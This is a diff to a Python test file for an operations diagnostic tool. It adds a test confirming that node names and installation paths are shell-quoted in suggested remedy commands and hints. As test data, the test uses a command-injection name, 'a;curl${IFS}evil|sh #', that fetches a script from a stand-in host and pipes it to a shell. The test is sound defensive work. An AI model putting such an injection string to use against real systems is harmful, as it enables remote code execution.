@@ -8,7 +8,8 @@ from datetime import UTC, datetime
 import msgspec
 import pytest
 
-from core.errors import ConnectError
+from core.errors import ConnectError, NoInstallationError
+from deploy.adopt import Installation, Survey
 from deploy.facts import Facts
 from ops import doctor, status
 from ops.checks import CHECKS, Case, Probe
@@ -166,3 +167,16 @@ def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
     assert told.check == "out-of-memory"
     assert 'modes = ["low-memory"]' in told.remedy
     assert '5.10 GiB are in pieces too small to use: modes = ["native-allocator"]' in told.remedy
+
+
+def test_what_others_name_is_quoted_in_commands() -> None:
+    name = "a;curl${IFS}evil|sh #"
+    case = seen(msgspec.structs.replace(settled(), failed_nodes={name: "x"}))
+    (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
+    assert node.remedy.startswith(f"inv nodes.update '{name}'; ")
+    found = [
+        Installation(path, "", "", "", None, "", "", "", {}, "", (), (), (), (), False) for path in ("/a; b", "/c")
+    ]
+    with pytest.raises(NoInstallationError) as raised:
+        Survey((), tuple(found)).only("spark")
+    assert raised.value.hint == "choose one: --path '/a; b'"
